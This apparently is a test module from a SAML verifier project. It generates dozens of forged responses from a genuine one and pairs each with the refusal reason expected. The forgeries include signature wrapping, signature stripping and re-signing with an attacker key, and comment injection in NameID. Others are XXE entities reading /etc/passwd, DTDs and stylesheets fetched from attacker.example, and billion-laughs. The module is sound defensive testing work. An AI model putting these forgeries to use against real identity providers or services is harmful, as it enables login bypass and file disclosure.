# SPDX-License-Identifier: Apache-2.0
"""
Attack documents, made from a genuine response by whoever has seen it but does not have the provider's key.

Each has a name, why it has been tried somewhere, the reason for which it is refused, and how it is made. They are applied
to every kept response (``documents.IMPLEMENTATIONS``); ``vectors/attacks.json`` keeps what came out.
"""

from __future__ import annotations

import base64
import copy
import hashlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any, Final

from lxml import etree

from daypass.errors import Reason
from fakes.saml_idp import FakeSamlIdp, rsa_key
from saml.documents import DS, SA, SP

R = Reason
Make = Callable[["Victim"], bytes]


def part_of(parent: Any, path: str) -> Any:
    """What is there."""
    return parent.find(path)


class Victim:
    """A genuine response taken apart, to be put together otherwise."""

    def __init__(self, response: bytes) -> None:
        self.root: Any = etree.fromstring(response)
        self.assertion = part_of(self.root, f"{SA}Assertion")
        self.signed = self.assertion if self.assertion.find(f"{DS}Signature") is not None else self.root
        self.signature = part_of(self.signed, f"{DS}Signature")
        self.signed_info = part_of(self.signature, f"{DS}SignedInfo")
        self.reference = part_of(self.signed_info, f"{DS}Reference")
        self.transforms = part_of(self.reference, f"{DS}Transforms")
        self.name_id = part_of(self.assertion, f"{SA}Subject/{SA}NameID")

    def forged(self, identifier: str = "_forged") -> Any:
        """The assertion as the attacker would have it: of mallory, unsigned, with an ID of its own."""
        forged = copy.deepcopy(self.assertion)
        forged.tail = None
        forged.set("ID", identifier)
        for signature in forged.findall(f"{DS}Signature"):
            forged.remove(signature)
        forged.find(f"{SA}Subject/{SA}NameID").text = "mallory"
        return forged

    def done(self) -> bytes:
        """The document as it stands."""
        return etree.tostring(self.root)


@dataclass(frozen=True)
class Attack:
    """How a document is made, and why it must be refused."""

    name: str
    why: str
    reason: Reason
    make: Make


ATTACKS: Final[list[Attack]] = []


def attack(reason: Reason, why: str) -> Callable[[Make], Make]:
    """Put the function, whose name is the attack's, on the list."""

    def listed(make: Make) -> Make:
        ATTACKS.append(Attack(make.__name__.replace("_", "-"), why, reason, make))
        return make

    return listed


def on_text(name: str, reason: Reason, why: str, change: Callable[[bytes], bytes]) -> None:
    """An attack on the bytes."""
    ATTACKS.append(Attack(name, why, reason, lambda victim: change(victim.done())))


# Wrapping: the signed element moves, a forged one is read (ruby-saml CVE-2024-45409, samlify CVE-2025-47949, node-saml
# CVE-2025-54419, pysaml2 CVE-2020-5390; Somorovsky et al. 2012).


@attack(R.SAML_ASSERTION_COUNT, "the first assertion is read, the second one is verified")
def forged_before(victim: Victim) -> bytes:
    victim.assertion.addprevious(victim.forged())
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "the last assertion is read, the first one is verified")
def forged_after(victim: Victim) -> bytes:
    victim.assertion.addnext(victim.forged())
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "two elements have the ID that the signature refers to")
def forged_with_the_same_id(victim: Victim) -> bytes:
    victim.assertion.addprevious(victim.forged(victim.assertion.get("ID")))
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "the genuine assertion is hidden in the forged one")
def genuine_within_forged(victim: Victim) -> bytes:
    forged = victim.forged()
    victim.root.replace(victim.assertion, forged)
    forged.append(victim.assertion)
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "the forged assertion is hidden in the genuine one, behind its signature")
def forged_within_genuine(victim: Victim) -> bytes:
    victim.assertion.append(victim.forged())
    return victim.done()


def hidden_in(name: str, why: str, place: Callable[[Victim, Any], Any]) -> None:
    """The genuine assertion is put where a schema is open, and a forged one, with its signature, in its stead."""

    def make(victim: Victim) -> bytes:
        forged = victim.forged()
        victim.root.replace(victim.assertion, forged)
        if victim.signed is victim.assertion:
            victim.assertion.remove(victim.signature)
            forged.insert(1, victim.signature)
        place(victim, forged).append(victim.assertion)
        return victim.done()

    ATTACKS.append(Attack(name, why, R.SAML_ASSERTION_COUNT, make))


def child(parent: Any, tag: str, at: int | None = None) -> Any:
    """A new child."""
    made = etree.Element(tag)
    parent.insert(len(parent) if at is None else at, made)
    return made


hidden_in("genuine-in-object", "Object takes anything", lambda victim, forged: child(victim.signature, f"{DS}Object"))
hidden_in("genuine-in-key-info", "KeyInfo is open", lambda victim, forged: child(victim.signature, f"{DS}KeyInfo"))
hidden_in("genuine-in-extensions", "Extensions takes anything", lambda v, forged: child(v.root, f"{SP}Extensions", 1))
hidden_in("genuine-in-advice", "Advice takes assertions", lambda victim, forged: child(forged, f"{SA}Advice"))
hidden_in(
    "genuine-in-status-detail",
    "StatusDetail takes anything",
    lambda victim, forged: child(victim.root.find(f"{SP}Status"), f"{SP}StatusDetail"),
)
hidden_in(
    "genuine-in-confirmation-data",
    "SubjectConfirmationData is open",
    lambda victim, forged: forged.find(f"{SA}Subject/{SA}SubjectConfirmation/{SA}SubjectConfirmationData"),
)
hidden_in(
    "genuine-in-attribute-value",
    "AttributeValue is open",
    lambda victim, forged: forged.find(f"{SA}AttributeStatement/{SA}Attribute/{SA}AttributeValue"),
)
hidden_in("genuine-in-transform", "Transform is open", lambda victim, forged: victim.transforms[0])
hidden_in("genuine-in-signature-method", "SignatureMethod is open", lambda victim, forged: victim.signed_info[1])


@attack(R.SAML_ASSERTION_COUNT, "the whole genuine response is hidden in a forged one")
def genuine_response_in_forged_response(victim: Victim) -> bytes:
    outer = etree.Element(victim.root.tag, dict(victim.root.attrib) | {"ID": "_outer"}, victim.root.nsmap)
    for part in (victim.root.find(f"{SA}Issuer"), victim.root.find(f"{SP}Status"), victim.forged()):
        outer.append(copy.deepcopy(part))
    child(outer, f"{SP}Extensions", 1).append(victim.root)
    return etree.tostring(outer)


@attack(R.SAML_ASSERTION_COUNT, "a forged response stands beside the genuine one, within it")
def forged_response_in_genuine_response(victim: Victim) -> bytes:
    inner = etree.Element(victim.root.tag, dict(victim.root.attrib))
    inner.append(victim.forged())
    child(victim.root, f"{SP}Extensions", 1).append(inner)
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "an encrypted assertion, which anybody can make, stands beside the genuine one")
def encrypted_beside(victim: Victim) -> bytes:
    child(victim.root, f"{SA}EncryptedAssertion").append(
        etree.Element("{http://www.w3.org/2001/04/xmlenc#}EncryptedData")
    )
    return victim.done()


@attack(R.SAML_ASSERTION_COUNT, "there is no assertion at all")
def no_assertion(victim: Victim) -> bytes:
    victim.root.remove(victim.assertion)
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "an assertion of SAML 1.1 stands beside it, for readers who look at local names")
def forged_of_another_namespace(victim: Victim) -> bytes:
    forged = etree.fromstring(etree.tostring(victim.forged()).replace(b"SAML:2.0:assertion", b"SAML:1.0:assertion"))
    victim.assertion.addprevious(forged)
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "the root is not the response but something that holds it")
def response_in_an_envelope(victim: Victim) -> bytes:
    envelope = etree.Element("{http://schemas.xmlsoap.org/soap/envelope/}Body")
    envelope.append(victim.root)
    return etree.tostring(envelope)


# Signatures: absent, elsewhere, of somebody else, of another form (GHES CVE-2024-9487, xml-crypto CVE-2025-29774 and -29775,
# signxml CVE-2025-48994, SimpleSAMLphp CVE-2018-7644, CVE-2009-0217).


@attack(R.SAML_UNSIGNED, "no signature, nothing to verify")
def signature_removed(victim: Victim) -> bytes:
    victim.signed.remove(victim.signature)
    return victim.done()


@attack(R.SAML_UNSIGNED, "the signature is removed and everything said anew")
def signature_removed_and_forged(victim: Victim) -> bytes:
    victim.signed.remove(victim.signature)
    victim.name_id.text = "mallory"
    return victim.done()


@attack(R.SAML_SIGNATURE_MISPLACED, "the signature stands at the end, where it covers what nobody reads")
def signature_at_the_end(victim: Victim) -> bytes:
    victim.signed.append(victim.signature)
    return victim.done()


@attack(R.SAML_SIGNATURE_MISPLACED, "the signature stands in the subject")
def signature_in_the_subject(victim: Victim) -> bytes:
    victim.assertion.find(f"{SA}Subject").append(victim.signature)
    return victim.done()


@attack(R.SAML_SIGNATURE_MISPLACED, "a second signature, of whoever")
def two_signatures(victim: Victim) -> bytes:
    victim.signature.addnext(copy.deepcopy(victim.signature))
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "two SignedInfo: one is verified, the other one read")
def two_signed_infos(victim: Victim) -> bytes:
    second = copy.deepcopy(victim.signed_info)
    second.find(f".//{DS}DigestValue").text = base64.b64encode(bytes(32)).decode()
    victim.signed_info.addnext(second)
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "SignedInfo is empty, and whatever it should say is taken from elsewhere")
def empty_signed_info(victim: Victim) -> bytes:
    for part in list(victim.signed_info):
        victim.signed_info.remove(part)
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "no reference: the signature is valid over nothing")
def no_reference(victim: Victim) -> bytes:
    victim.signed_info.remove(victim.reference)
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "two references: one to the forged, one to the genuine")
def two_references(victim: Victim) -> bytes:
    victim.reference.addnext(copy.deepcopy(victim.reference))
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "an Object in the signature is covered by nothing")
def object_in_signature(victim: Victim) -> bytes:
    child(victim.signature, f"{DS}Object").text = "anything"
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "an HMAC of one bit (CVE-2009-0217)")
def hmac_output_length(victim: Victim) -> bytes:
    child(victim.signed_info[1], f"{DS}HMACOutputLength").text = "1"
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "the signature's value is empty")
def empty_signature_value(victim: Victim) -> bytes:
    victim.signature.find(f"{DS}SignatureValue").text = None
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "the value is not base64: decoders skip what they do not know")
def signature_value_with_strange_characters(victim: Victim) -> bytes:
    value = victim.signature.find(f"{DS}SignatureValue")
    value.text = "!" + value.text
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "the digest of nothing, for a canonicalisation that yields nothing (CVE-2025-66568)")
def digest_of_nothing(victim: Victim) -> bytes:
    victim.reference.find(f"{DS}DigestValue").text = base64.b64encode(hashlib.sha256().digest()).decode()
    return victim.done()


@attack(R.SAML_SIGNATURE_SHAPE, "a digest of no bytes equals every digest that is cut to none")
def empty_digest(victim: Victim) -> bytes:
    victim.reference.find(f"{DS}DigestValue").text = ""
    return victim.done()


@attack(R.SAML_MARKUP_REFUSED, "a comment in the digest's value (xml-crypto CVE-2025-29775)")
def comment_in_digest_value(victim: Victim) -> bytes:
    value = victim.reference.find(f"{DS}DigestValue")
    value.insert(0, etree.Comment("forged"))
    value[0].tail, value.text = value.text, base64.b64encode(bytes(32)).decode()
    return victim.done()


@attack(R.SAML_SIGNATURE_INVALID, "the digest is the forged assertion's, the signature the genuine one's")
def digest_of_the_forged(victim: Victim) -> bytes:
    victim.name_id.text = "mallory"
    victim.signed.remove(victim.signature)
    digest = hashlib.sha256(etree.tostring(victim.signed, method="c14n", exclusive=True, with_comments=False)).digest()
    victim.signed.insert(1, victim.signature)
    victim.reference.find(f"{DS}DigestValue").text = base64.b64encode(digest).decode()
    return victim.done()


@attack(R.SAML_SIGNATURE_INVALID, "one bit of the signature")
def flipped_signature(victim: Victim) -> bytes:
    value = victim.signature.find(f"{DS}SignatureValue")
    octets = bytearray(base64.b64decode(value.text))
    octets[0] ^= 1
    value.text = base64.b64encode(octets).decode()
    return victim.done()


def _signed_by_mallory(victim: Victim, *, bring_certificate: bool) -> bytes:
    victim.signed.remove(victim.signature)
    victim.name_id.text = "mallory"
    mallory = FakeSamlIdp(key=rsa_key(66))  # the attacker's own key, made for the run
    signed: Any = etree.fromstring(mallory.signed(etree.tostring(victim.signed, with_tail=False)))
    if not bring_certificate:
        key_info = signed.find(f"{DS}Signature/{DS}KeyInfo")
        key_info.getparent().replace(key_info, victim.signature.find(f"{DS}KeyInfo"))
    if victim.signed is victim.root:
        return etree.tostring(signed)
    victim.root.replace(victim.assertion, signed)
    return victim.done()


@attack(R.SAML_SIGNATURE_INVALID, "signed with the attacker's key, whose certificate is in KeyInfo (CVE-2018-7644)")
def signed_by_a_key_that_it_brings(victim: Victim) -> bytes:
    return _signed_by_mallory(victim, bring_certificate=True)


@attack(R.SAML_SIGNATURE_INVALID, "signed with the attacker's key, the genuine certificate in KeyInfo")
def signed_by_another_key_than_it_names(victim: Victim) -> bytes:
    return _signed_by_mallory(victim, bring_certificate=False)


# Algorithms, references and transforms (XML Signature Best Practices).


def algorithm(name: str, reason: Reason, why: str, place: Callable[[Victim], Any], identifier: str) -> None:
    """Another identifier of an algorithm."""

    def make(victim: Victim) -> bytes:
        place(victim).set("Algorithm", identifier)
        return victim.done()

    ATTACKS.append(Attack(name, why, reason, make))


XMLDSIG, MORE = "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/04/xmldsig-more#"
for fragment, why in {
    f"{XMLDSIG}hmac-sha1": "the public key is the secret of an HMAC",
    f"{MORE}hmac-sha256": "the public key is the secret of an HMAC",
    f"{XMLDSIG}rsa-sha1": "SHA-1, though the provider did not opt in",
    f"{MORE}rsa-md5": "MD5",
    f"{XMLDSIG}dsa-sha1": "another kind of key",
    "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1": "an algorithm that is not on the list",
    "none": "no algorithm",
    "": "an empty algorithm",
}.items():
    algorithm(f"signature-method-{fragment.rpartition('#')[2] or 'empty'}", R.SAML_ALGORITHM_REFUSED, why,
              lambda victim: victim.signed_info[1], fragment)  # fmt: skip
for fragment, why in {f"{XMLDSIG}sha1": "SHA-1", f"{MORE}md5": "MD5", "none": "no digest"}.items():
    algorithm(f"digest-method-{fragment.rpartition('#')[2]}", R.SAML_ALGORITHM_REFUSED, why,
              lambda victim: victim.reference.find(f"{DS}DigestMethod"), fragment)  # fmt: skip
algorithm("ecdsa-for-an-rsa-key", R.SAML_KEY_REFUSED, "the registered key is of another kind",
          lambda victim: victim.signed_info[1], f"{MORE}ecdsa-sha256")  # fmt: skip
for fragment, why in {
    "http://www.w3.org/2001/10/xml-exc-c14n#WithComments": "comments would be signed, and their removal seen",
    "http://www.w3.org/TR/2001/REC-xml-c14n-20010315": "inclusive: what is around the element takes part",
    "http://www.w3.org/TR/1999/REC-xslt-19991116": "XSLT computes what is signed",
}.items():
    algorithm(f"canonicalization-{fragment[-12:].replace('#', '-')}", R.SAML_TRANSFORM_REFUSED, why,
              lambda victim: victim.signed_info[0], fragment)  # fmt: skip
for fragment, why in {
    "http://www.w3.org/TR/1999/REC-xslt-19991116": "XSLT computes what is signed",
    "http://www.w3.org/TR/1999/REC-xpath-19991116": "XPath selects nothing to be signed",
    "http://www.w3.org/2002/06/xmldsig-filter2": "a filter selects nothing to be signed",
    f"{XMLDSIG}base64": "the text is signed, not the element",
    "http://www.w3.org/2001/10/xml-exc-c14n#WithComments": "not the transform of the profile",
}.items():
    algorithm(f"transform-{fragment[-14:].replace('#', '-')}", R.SAML_TRANSFORM_REFUSED, why,
              lambda victim: victim.transforms[1], fragment)  # fmt: skip


@attack(R.SAML_TRANSFORM_REFUSED, "one more transform")
def three_transforms(victim: Victim) -> bytes:
    victim.transforms[1].addnext(copy.deepcopy(victim.transforms[1]))
    return victim.done()


@attack(R.SAML_TRANSFORM_REFUSED, "the transforms in the other order")
def transforms_swapped(victim: Victim) -> bytes:
    victim.transforms.append(victim.transforms[0])
    return victim.done()


@attack(R.SAML_TRANSFORM_REFUSED, "only one of the transforms")
def one_transform(victim: Victim) -> bytes:
    victim.transforms.remove(victim.transforms[0])
    return victim.done()


@attack(R.SAML_TRANSFORM_REFUSED, "a stylesheet in a transform")
def stylesheet_in_transform(victim: Victim) -> bytes:
    child(victim.transforms[1], "{http://www.w3.org/1999/XSL/Transform}stylesheet").set("version", "1.0")
    return victim.done()


@attack(R.SAML_TRANSFORM_REFUSED, "a list of prefixes that is none")
def strange_prefix_list(victim: Victim) -> bytes:
    child(victim.transforms[1], "{http://www.w3.org/2001/10/xml-exc-c14n#}InclusiveNamespaces").set(
        "PrefixList", "#default  x\t"
    )
    return victim.done()


for uri, name, why in (
    ("", "empty-reference", "the document, whatever it is"),
    ("http://attacker.example/assertion.xml", "reference-elsewhere", "something that the attacker serves"),
    ("file:///etc/passwd", "reference-to-a-file", "something of the verifier's own"),
    ("#xpointer(/)", "reference-by-xpointer", "a selection instead of an ID"),
    ("#xpointer(id('_forged'))", "reference-by-xpointer-id", "a selection instead of an ID"),
    ("#_forged", "reference-to-nothing", "an ID that nothing has"),
):

    def _refer(victim: Victim, uri: str = uri) -> bytes:
        victim.reference.set("URI", uri)
        return victim.done()

    ATTACKS.append(Attack(name, why, R.SAML_REFERENCE_REFUSED, _refer))


@attack(R.SAML_REFERENCE_REFUSED, "the signature refers to the other one of response and assertion")
def reference_to_the_other(victim: Victim) -> bytes:
    other = victim.root if victim.signed is victim.assertion else victim.assertion
    victim.reference.set("URI", "#" + other.get("ID"))
    return victim.done()


@attack(R.SAML_REFERENCE_REFUSED, "the signed element has another ID than the signature refers to")
def another_id(victim: Victim) -> bytes:
    victim.signed.set("ID", "_another")
    return victim.done()


# What was signed has been changed; IDs; text (Duo 2018: CVE-2017-11427, CVE-2017-11428, CVE-2017-11430, CVE-2018-0489).


@attack(R.SAML_DIGEST_MISMATCH, "another name")
def name_changed(victim: Victim) -> bytes:
    victim.name_id.text = "mallory"
    return victim.done()


@attack(R.SAML_DIGEST_MISMATCH, "one more role")
def value_added(victim: Victim) -> bytes:
    child(victim.assertion.find(f"{SA}AttributeStatement/{SA}Attribute"), f"{SA}AttributeValue").text = "admin"
    return victim.done()


@attack(R.SAML_DIGEST_MISMATCH, "white space, which is signed as well")
def space_added(victim: Victim) -> bytes:
    victim.assertion.find(f"{SA}Subject").tail = "\n "
    return victim.done()


@attack(R.SAML_ID_DUPLICATE, "two elements have one ID")
def duplicate_id(victim: Victim) -> bytes:
    victim.signature.set("Id", victim.signed.get("ID"))
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "an ID on an element that has none, for lookups by xml:id")
def xml_id(victim: Victim) -> bytes:
    victim.name_id.set("{http://www.w3.org/XML/1998/namespace}id", victim.signed.get("ID"))
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "an ID on an element that has none, for lookups by local name")
def stray_id(victim: Victim) -> bytes:
    victim.name_id.set("Id", victim.signed.get("ID"))
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "a base that makes references lead elsewhere")
def xml_base(victim: Victim) -> bytes:
    victim.root.set("{http://www.w3.org/XML/1998/namespace}base", "http://attacker.example/")
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "text where there is none, for readers who join texts")
def stray_text(victim: Victim) -> bytes:
    victim.assertion.find(f"{SA}Subject").text = "mallory"
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "an element in the name, for readers who read up to it, or who join")
def element_in_the_name(victim: Victim) -> bytes:
    child(victim.name_id, f"{SA}NameID").tail = ".evil.example"
    return victim.done()


def _split(kind: Callable[[], Any]) -> Make:
    def make(victim: Victim) -> bytes:
        victim.name_id.insert(0, kind())
        victim.name_id[0].tail, victim.name_id.text = victim.name_id.text[2:], victim.name_id.text[:2]
        return victim.done()

    return make


ATTACKS.append(Attack("comment-in-the-name", "readers read up to the comment; it is not signed", R.SAML_MARKUP_REFUSED,
                      _split(lambda: etree.Comment(""))))  # fmt: skip
ATTACKS.append(Attack("instruction-in-the-name", "readers read up to the instruction", R.SAML_MARKUP_REFUSED,
                      _split(lambda: etree.ProcessingInstruction("x", "y"))))  # fmt: skip
on_text("cdata-in-the-name", R.SAML_MARKUP_REFUSED, "readers differ about CDATA",
        lambda text: text.replace(b">alice<", b"><![CDATA[alice]]><"))  # fmt: skip
on_text("comment-before-the-root", R.SAML_MARKUP_REFUSED, "markup around the document", lambda text: b"<!--x-->" + text)
on_text(
    "instruction-after-the-root", R.SAML_MARKUP_REFUSED, "markup around the document", lambda text: text + b"<?x y?>"
)
on_text("stylesheet-instruction", R.SAML_MARKUP_REFUSED, "a stylesheet is fetched and applied",
        lambda text: b'<?xml-stylesheet href="http://attacker.example/"?>' + text)  # fmt: skip

# Documents that hurt the parser (pysaml2 CVE-2016-10149, lxml CVE-2026-41066, GHES CVE-2025-23369).
LAUGHS: Final = b'<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
for name, why, head, found, put in (
    ("doctype", "a document type at all", b"<!DOCTYPE r>", b"", b""),
    ("internal-entity", "an entity instead of a text", b'<!DOCTYPE r [<!ENTITY n "mallory">]>', b">alice<", b">&n;<"),
    (
        "external-entity",
        "a file of ours",
        b'<!DOCTYPE r [<!ENTITY n SYSTEM "file:///etc/passwd">]>',
        b">alice<",
        b">&n;<",
    ),
    (
        "external-dtd",
        "a document type that the attacker serves",
        b'<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">',
        b"",
        b"",
    ),
    ("parameter-entity", "entities within entities", b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file:///x"> %p;]>', b"", b""),
    ("billion-laughs", "memory without end", LAUGHS, b">alice<", b">&c;<"),
    ("default-attribute", "an attribute that nobody wrote", b'<!DOCTYPE r [<!ATTLIST r ID ID "_forged">]>', b"", b""),
    ("doctype-in-small-letters", "readers who take it for one", b"<!doctype r>", b"", b""),
):
    on_text(name, R.SAML_DOCTYPE_REFUSED, why,
            lambda text, head=head, found=found, put=put: head + (text.replace(found, put) if found else text))  # type: ignore[misc]  # fmt: skip
on_text(
    "undeclared-entity",
    R.SAML_MALFORMED,
    "an entity that is not declared",
    lambda t: t.replace(b">alice<", b">&alice;<"),
)
on_text("utf-16", R.SAML_MALFORMED, "other bytes than those that were looked at", lambda t: t.decode().encode("utf-16"))
on_text("utf-7", R.SAML_MARKUP_REFUSED, "an encoding that hides what is markup",
        lambda text: b'<?xml version="1.0" encoding="UTF-7"?>' + text)  # fmt: skip
on_text("latin-1", R.SAML_MALFORMED, "bytes that are not UTF-8", lambda text: text.replace(b">alice<", b">\xe4lice<"))
on_text(
    "overlong-utf-8", R.SAML_MALFORMED, "another spelling of <", lambda text: text.replace(b">alice<", b">\xc0\xbc<")
)
on_text(
    "nul",
    R.SAML_MALFORMED,
    "a character that ends a text for some",
    lambda text: text.replace(b">alice<", b">alice\0.evil<"),
)
on_text("xml-1.1", R.SAML_MARKUP_REFUSED, "other rules of characters", lambda text: b'<?xml version="1.1"?>' + text)
on_text("two-roots", R.SAML_MALFORMED, "a document behind the document", lambda text: text + text)
on_text("cut-off", R.SAML_MALFORMED, "readers who repair", lambda text: text[:-20])
on_text("empty", R.SAML_MALFORMED, "nothing", lambda text: b"")
on_text("too-large", R.SAML_TOO_LARGE, "more than is read", lambda text: text + b" " * 75_000)


@attack(R.SAML_TOO_LARGE, "elements nested without end")
def too_deep(victim: Victim) -> bytes:
    inner = victim.name_id
    for _ in range(200):
        inner = child(inner, "x")
    return victim.done()


@attack(R.SAML_SHAPE_REFUSED, "attributes without end")
def too_many_attributes(victim: Victim) -> bytes:
    for number in range(1000):
        victim.name_id.set(f"a{number}", "")
    return victim.done()


@attack(R.SAML_TOO_LARGE, "elements without end")
def too_many_elements(victim: Victim) -> bytes:
    for _ in range(10_001):
        child(victim.name_id, "x")
    return victim.done()


on_text("relative-namespace", R.SAML_SIGNATURE_SHAPE, "what has no canonical form is canonicalised to nothing (CVE-2025-66568)",
        lambda text: text.replace(b' ID="', b' xmlns:r="../r" ID="'))  # fmt: skip


# The wrapper, which is unsigned where the assertion is signed: it may refuse, and never persuade.


def wrapper(name: str, reason: Reason, why: str, change: Callable[[Any], None]) -> None:
    """A change of the response; where it is signed, it is a change of what was signed."""

    def make(victim: Victim) -> bytes:
        change(victim.root)
        return victim.done()

    ATTACKS.append(Attack(name, why, reason, make))


def _set_issuer(root: Any) -> None:
    root.find(f"{SA}Issuer").text = "https://idp.example.net/metadata"


def _set_status(root: Any) -> None:
    root.find(f"{SP}Status/{SP}StatusCode").set("Value", "urn:oasis:names:tc:SAML:2.0:status:Requester")


wrapper("another-issuer", R.SAML_ISSUER_MISMATCH, "the response says that it comes from somebody else", _set_issuer)
wrapper("no-success", R.SAML_CLAIM_STATUS, "the provider said that nobody was signed in", _set_status)


def documents(response: bytes) -> Iterator[tuple[Attack, bytes]]:
    """Every attack on a genuine response."""
    for made in ATTACKS:
        yield made, made.make(Victim(response))
